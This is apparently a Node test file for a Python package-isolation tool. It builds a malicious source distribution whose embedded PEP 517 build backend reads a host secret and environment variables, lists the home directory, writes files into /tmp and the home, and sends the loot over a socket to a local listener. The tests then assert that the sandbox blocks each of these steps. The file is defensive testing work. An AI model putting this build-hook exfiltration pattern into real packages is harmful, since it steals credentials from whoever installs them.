// A malicious sdist (an in-tree PEP 517 backend) attacks the host while it is built; the install sandbox contains it.

import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { randomBytes } from "node:crypto";
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:net";
import { homedir, tmpdir } from "node:os";
import path from "node:path";
import { after, before, describe, it } from "node:test";
import { ensureEnvironment, findUv, resolvePython, type EnvironmentSpec } from "../src/env/builder.js";
import { detectSandbox } from "../src/sandbox/detect.js";
import { fixtureIndex, py, recorder, tempRoot } from "./fixtures/env/helpers.js";

const caps = await detectSandbox();
const bwrapOk = caps.bwrap !== undefined && (caps.backend === "bwrap" || caps.backend === "bwrap-degraded");
const skip = bwrapOk ? false : `bwrap cannot run here (model ${caps.model}): ${caps.gaps.map((g) => g.problem).join("; ")}`;
const uv = await findUv();
const root = tempRoot("pyisolate-env-attack-");
const SECRET = `pyisolate-secret-${randomBytes(8).toString("hex")}`;
/** The attacker's targets: a secret in the host's real home, files to plant in the host's /tmp and home. */
let secretDir = "";
let pwnTmp = "";
let pwnHome = "";
let received = "";
let server: Server | undefined;
let base: Omit<EnvironmentSpec, "name" | "dependencies" | "backend">;

/** The build backend: every hook it is asked for first attacks, then builds a wheel that carries the loot. */
const BACKEND = String.raw`
import base64, hashlib, json, os, socket, zipfile
HERE = os.path.dirname(os.path.abspath(__file__))
CFG = json.load(open(os.path.join(HERE, "attack.json")))

def _try(f):
    try:
        return ["ok", f()]
    except Exception as e:
        return [type(e).__name__, str(e)]

def attack():
    loot = {}
    loot["secret"] = _try(lambda: open(CFG["secret"]).read())
    loot["env"] = os.environ.get("PYISOLATE_TEST_SECRET", "absent")
    loot["list_home"] = _try(lambda: sorted(os.listdir(CFG["home"])))
    loot["home"] = os.environ.get("HOME")
    for i, p in enumerate(CFG["pwn"]):
        loot["pwn%d" % i] = _try(lambda: open(p, "w").write("pwned"))
    def phone():
        s = socket.create_connection(("127.0.0.1", CFG["port"]), timeout=5)
        s.sendall(json.dumps(loot).encode())
        s.close()
        return "sent"
    loot["phone"] = _try(phone)
    print("EVIL-LOOT " + json.dumps(loot))
    return loot

def get_requires_for_build_wheel(config_settings=None):
    return []

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = attack()
    info = "pyisolate_evil-1.0.dist-info"
    files = {
        "pyisolate_evil/__init__.py": ("LOOT = %r\n" % json.dumps(loot)).encode(),
        info + "/METADATA": b"Metadata-Version: 2.1\nName: pyisolate-evil\nVersion: 1.0\n",
        info + "/WHEEL": b"Wheel-Version: 1.0\nGenerator: evil\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    rec = []
    for p, d in files.items():
        h = base64.urlsafe_b64encode(hashlib.sha256(d).digest()).rstrip(b"=").decode()
        rec.append("%s,sha256=%s,%d" % (p, h, len(d)))
    files[info + "/RECORD"] = ("\n".join(rec + [info + "/RECORD,,"]) + "\n").encode()
    name = "pyisolate_evil-1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as z:
        for p, d in files.items():
            z.writestr(p, d)
    return name
`;

/** Write pyisolate_evil-1.0.tar.gz (pyproject.toml with an in-tree backend: no setuptools needed) into `dir`. */
function makeEvilSdist(dir: string, attackCfg: object): void {
  const src = path.join(root.dir, "evil-src", "pyisolate_evil-1.0");
  mkdirSync(src, { recursive: true });
  mkdirSync(dir, { recursive: true });
  writeFileSync(path.join(src, "pyproject.toml"), '[build-system]\nrequires = []\nbuild-backend = "evil_backend"\nbackend-path = ["."]\n');
  writeFileSync(path.join(src, "PKG-INFO"), "Metadata-Version: 2.1\nName: pyisolate-evil\nVersion: 1.0\n");
  writeFileSync(path.join(src, "evil_backend.py"), BACKEND);
  writeFileSync(path.join(src, "attack.json"), JSON.stringify(attackCfg));
  const tar = "import sys, tarfile\nwith tarfile.open(sys.argv[1], 'w:gz') as t: t.add(sys.argv[2], arcname='pyisolate_evil-1.0')";
  execFileSync("python3", ["-c", tar, path.join(dir, "pyisolate_evil-1.0.tar.gz"), src]);
}

/** Every file under `dir` whose bytes contain `needle`. */
function filesContaining(dir: string, needle: string): string[] {
  const hits: string[] = [];
  for (const entry of readdirSync(dir, { recursive: true, encoding: "utf8" })) {
    const file = path.join(dir, entry);
    const st = statSync(file, { throwIfNoEntry: false });
    if (st?.isFile() && readFileSync(file).includes(needle)) hits.push(file);
  }
  return hits;
}

before(async () => {
  if (skip) return;
  secretDir = mkdtempSync(path.join(homedir(), ".pyisolate-test-secret-"));
  writeFileSync(path.join(secretDir, "secret.txt"), SECRET);
  pwnTmp = path.join(tmpdir(), `pwned-${randomBytes(6).toString("hex")}`);
  pwnHome = path.join(secretDir, "pwned");
  server = createServer((s) => s.on("data", (d) => (received += d.toString())));
  await new Promise<void>((resolve) => server!.listen(0, "127.0.0.1", resolve));
  const port = (server.address() as { port: number }).port;
  const sdists = path.join(root.dir, "sdists");
  makeEvilSdist(sdists, { secret: path.join(secretDir, "secret.txt"), home: homedir(), pwn: [pwnTmp, pwnHome], port });
  const index = fixtureIndex(path.join(root.dir, "index"), ["1.0"]);
  const python = await resolvePython(undefined);
  const env = {
    ...process.env,
    PYISOLATE_TEST_SECRET: SECRET,
    // The unconfined control must not leave a wheel holding the secret in the host's own caches.
    PIP_CACHE_DIR: path.join(root.dir, "host-cache", "pip"),
    UV_CACHE_DIR: path.join(root.dir, "host-cache", "uv"),
  };
  base = { venvRoot: path.join(root.dir, "venvs"), python: python.path, indexUrl: index.indexUrl, findLinks: [sdists], runtimeVersion: "0.1.0-test", env };
});
after(() => {
  server?.close();
  if (secretDir) rmSync(secretDir, { recursive: true, force: true });
  if (pwnTmp) rmSync(pwnTmp, { force: true });
  root.remove();
});

type Loot = Record<string, [string, unknown] | string>;

async function buildEvil(name: string, backend: "pip" | "uv", sandbox: EnvironmentSpec["sandbox"]) {
  received = "";
  const rec = recorder();
  const e = await ensureEnvironment({ ...base, name, backend, dependencies: ["pyisolate-evil==1.0"], sandbox, onProgress: rec.onProgress });
  const loot = JSON.parse(py(e.pythonPath, "import pyisolate_evil as m; print(m.LOOT)")) as Loot;
  // Give the phone-home connection's data time to arrive (it was sent before the build finished).
  await new Promise((r) => setTimeout(r, 50));
  return { e, loot, output: rec.events.map((ev) => ev.message).join("\n") };
}

function assertContained(r: Awaited<ReturnType<typeof buildEvil>>, network: boolean): void {
  const { e, loot, output } = r;
  assert.equal(e.installSandbox, caps.backend);
  assert.equal((loot.secret as string[])[0], "FileNotFoundError", `secret: ${JSON.stringify(loot.secret)}`);
  assert.equal(loot.env, "absent", "the host's environment variables are not passed on");
  // The home may exist inside only as the path to a Python install under it (pyenv's); the secret's folder never shows.
  const listed = (loot.list_home as [string, unknown])[0] === "ok" ? ((loot.list_home as [string, string[]])[1]) : [];
  assert.ok(!listed.includes(path.basename(secretDir)), `home: ${JSON.stringify(loot.list_home)}`);
  const viaPython = path.relative(homedir(), base.python!).split(path.sep)[0];
  assert.ok(listed.every((n) => n === viaPython), `home: ${JSON.stringify(loot.list_home)}`);
  assert.equal(loot.home, "/tmp/home");
  assert.equal((loot.pwn0 as string[])[0], "ok", "the write lands in the sandbox's private /tmp");
  assert.ok(!existsSync(pwnTmp), "nothing was planted in the host's /tmp");
  assert.notEqual((loot.pwn1 as string[])[0], "ok", `write into the host's home: ${JSON.stringify(loot.pwn1)}`);
  assert.ok(!existsSync(pwnHome), "nothing was planted in the host's home");
  assert.equal((loot.phone as string[])[0], network ? "ok" : "ConnectionRefusedError", `phone home: ${JSON.stringify(loot.phone)}`);
  assert.ok(!received.includes(SECRET), "the secret never reached the attacker's server");
  assert.ok(!output.includes(SECRET), "nor the build output");
  assert.deepEqual(filesContaining(e.venvPath, SECRET), [], "nor the venv");
  assert.deepEqual(filesContaining(path.join(base.venvRoot, ".cache"), SECRET), [], "nor the cache");
}

describe("malicious sdist", { skip }, () => {
  it("control: unconfined, the build reads the secret, plants files in /tmp and the home, and phones home", async () => {
    const r = await buildEvil("evil-control", "pip", { mode: "disabled" });
    assert.equal(r.e.installSandbox, "none");
    assert.deepEqual(r.loot.secret, ["ok", SECRET]);
    assert.equal(r.loot.env, SECRET);
    assert.ok(existsSync(pwnTmp) && existsSync(pwnHome), "both files were planted");
    assert.ok(received.includes(SECRET), "the secret reached the server");
    rmSync(pwnTmp, { force: true });
    rmSync(pwnHome, { force: true });
  });

  it("pip in the sandbox: the build runs and the install succeeds, but the secret, the host's files and env are out of reach", async () => {
    assertContained(await buildEvil("evil-pip", "pip", { mode: "required" }), true);
  });

  it("pip in the sandbox without network: the phone-home connection is refused too", async () => {
    assertContained(await buildEvil("evil-pip-offline", "pip", { mode: "required", network: false }), false);
  });

  it("uv in the sandbox: the same attack is contained", { skip: uv ? false : "uv is not on PATH" }, async () => {
    assertContained(await buildEvil("evil-uv", "uv", { mode: "required" }), true);
  });
});
